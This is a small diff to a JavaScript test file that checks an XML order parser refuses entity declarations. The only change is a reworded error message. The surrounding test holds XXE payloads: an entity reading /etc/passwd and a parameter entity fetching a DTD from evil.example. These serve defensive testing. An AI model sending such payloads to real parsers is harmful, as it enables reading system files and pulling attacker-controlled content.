@@ -340,7 +340,7 @@ test('entities of a file, XML bombs and references to other files are never foll
   const outside = `<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/passwd">]><Order><ID>&x;</ID></Order>`
   const parameter = `<!DOCTYPE Order [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><Order><ID>1</ID></Order>`
   for (const text of [bomb, outside, parameter])
-    expect(refusalOf(text)).toMatch(/document type declaration with its own entities/)
+    expect(refusalOf(text)).toMatch(/document type declaration that defines entities/)
 })
 
 test('XML that is too deep, broken or not an order is refused with an explanation', () => {
